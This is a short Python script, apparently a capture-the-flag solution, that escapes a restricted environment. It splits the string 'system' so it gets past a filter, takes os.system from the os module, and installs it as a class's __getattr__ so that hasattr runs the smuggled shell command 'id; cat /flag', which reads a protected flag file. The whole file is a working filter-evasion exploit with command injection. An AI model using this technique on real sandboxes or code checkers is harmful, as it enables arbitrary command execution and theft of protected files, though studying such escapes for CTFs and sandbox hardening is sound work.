# hasattr is not reported, but it calls a class' __getattr__ with the member
# name; the class' __getattr__ is an os function picked with a clean eval'd key,
# so hasattr(Probe(), "id; cat /flag") runs the command.
import io
import os
import sys

sys.stdin = io.StringIO("'sys' + 'tem'\n")
handler = vars(os)[eval(input())]


class Probe:
    __getattr__ = handler


print(hasattr(Probe(), "id; cat /flag"))
